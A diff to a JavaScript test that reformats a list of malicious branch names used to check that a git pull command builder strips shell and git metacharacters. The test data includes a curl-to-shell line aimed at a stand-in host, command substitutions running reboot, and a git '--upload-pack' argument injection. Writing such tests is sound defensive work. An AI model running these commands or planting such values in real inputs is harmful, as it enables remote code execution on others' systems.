@@ -13,19 +13,8 @@ describe("the commands of a comment on a conflict", () => {
   });
 
   it.each([
-    "a;curl evil.example|sh",
-    "$(reboot)",
-    "`reboot`",
-    "a b",
-    "a&b",
-    "a\nreboot",
-    "main\n",
-    "a'b",
-    'a"b',
-    "*",
-    "--upload-pack=reboot",
-    "-x",
-    "",
+    ...["a;curl evil.example|sh", "$(reboot)", "`reboot`", "a b", "a&b", "a\nreboot", "main\n", "a'b", 'a"b', "*"],
+    ...["--upload-pack=reboot", "-x", ""],
   ])("hold nothing of a name that means something to a shell or to git: %j", (main) => {
     expect(commandOf(main)).toBe("git pull --no-rebase https://github.com/team/posts.git HEAD");
   });
